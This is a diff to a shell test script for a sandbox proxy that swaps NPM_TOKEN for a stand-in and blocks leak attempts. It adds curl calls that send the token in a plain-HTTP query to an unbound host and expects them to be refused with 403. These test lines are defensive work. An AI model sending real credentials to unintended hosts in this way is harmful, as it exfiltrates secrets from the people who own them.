@@ -18,6 +18,7 @@ gen_other_ca || exit 1
 start_git_server || exit 1
 gen_host_cert echo.test reg.test other.test || exit 1
 start_echo_server || exit 1
+start_echo_server plain || exit 1
 start_echo_server wrong || exit 1
 WRONG_PORT=$ECHO_LAST_PORT
 start_echo_server untrusted || exit 1
@@ -38,6 +39,8 @@ resolve echo.test 127.0.0.1
 resolve reg.test 127.0.0.1
 resolve other.test 127.0.0.1
 resolve misnamed.test 127.0.0.1
+resolve plain.test 127.0.0.1
+allow plain.test:$ECHO_HTTP_PORT { private }
 allow git.test:$GIT_PORT { private upstream-ca $T/ca.pem
 	paths /allowed.git/* inject basic x-access-token gh }
 allow echo.test:$ECHO_PORT { private upstream-ca $T/ca.pem inject bearer gh }
@@ -106,7 +109,11 @@ prun -p "$T/p.conf" -- sh -c '
 	curl -sS -H "Authorization: Bearer $NPM_TOKEN" https://reg.test:'"$ECHO_PORT"'/pkg
 	curl -sS -o /dev/null -D leak.h -w "leak %{http_code}\n" \
 		-H "Authorization: Bearer $NPM_TOKEN" https://other.test:'"$ECHO_PORT"'/x
-	cat leak.h'
+	cat leak.h
+	curl -sS -o /dev/null -w "plain-leak %{http_code}\n" \
+		"http://plain.test:'"$ECHO_HTTP_PORT"'/q?t=$NPM_TOKEN"
+	curl -sS -o /dev/null -w "plain-clean %{http_code}\n" \
+		"http://plain.test:'"$ECHO_HTTP_PORT"'/q"'
 standin=$(sed -n 's/^standin=//p' <<<"$OUT")
 check "placeholder: the sandbox holds a stand-in" test -n "$standin"
 refuse "placeholder: not the value" "$standin" "$NPM_VALUE"
@@ -114,6 +121,8 @@ expect "placeholder: same shape" "$standin" '^npm_'
 equal "placeholder: same length" "${#standin}" "${#NPM_VALUE}"
 expect "placeholder: the bound host gets the value" "$OUT" "^Authorization: Bearer $NPM_VALUE\$"
 expect "placeholder: elsewhere refused" "$OUT" '^leak 403$'
+expect "placeholder: over plain HTTP refused" "$OUT" '^plain-leak 403$'
+expect "placeholder: plain HTTP without it passes" "$OUT" '^plain-clean 200$'
 expect "placeholder: elsewhere, the reason" "$OUT" '^X-Pinhole-Reason: leak attempt: the stand-in for NPM_TOKEN'
 check "placeholder: leak attempt logged" jq_has \
 	'select(.event == "request" and .decision == "deny" and (.reason | startswith("leak attempt")))' \
